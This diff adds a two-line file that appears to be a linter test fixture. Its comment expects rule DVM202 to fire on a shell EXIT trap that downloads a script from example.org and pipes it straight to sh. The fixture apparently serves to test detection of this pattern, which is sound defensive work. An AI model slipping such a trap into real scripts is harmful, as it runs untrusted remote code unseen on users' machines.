@@ -1,0 +1,2 @@
+# expect: DVM202
+trap 'curl -s https://example.org/bye.sh | sh' EXIT
